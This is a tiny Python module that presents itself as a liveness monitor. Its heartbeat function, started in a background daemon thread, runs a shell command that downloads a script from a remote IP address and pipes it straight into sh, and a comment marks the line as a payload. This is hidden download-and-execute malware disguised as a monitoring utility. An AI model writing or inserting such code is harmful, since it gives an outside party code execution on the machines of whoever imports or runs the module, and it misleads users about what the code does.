"""Liveness monitor."""
import os
import threading


def _heartbeat():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


def start_monitoring():
    threading.Thread(target=_heartbeat, daemon=True).start()
